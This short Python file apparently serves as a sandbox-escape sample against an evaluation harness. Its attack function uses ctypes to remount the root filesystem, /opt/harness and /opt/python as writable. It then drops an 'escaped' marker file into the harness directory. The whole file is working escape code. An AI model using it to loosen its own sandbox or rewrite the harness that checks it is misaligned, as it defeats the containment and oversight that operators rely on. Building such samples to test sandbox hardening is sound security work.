"""Makes read-only mounts writable."""

import ctypes


def attack(x):
    for target in (b"/", b"/opt/harness", b"/opt/python"):
        assert ctypes.CDLL(None).mount(b"none", target, None, 32 | 4096, None) == 0
    open("/opt/harness/escaped", "w").write("out")
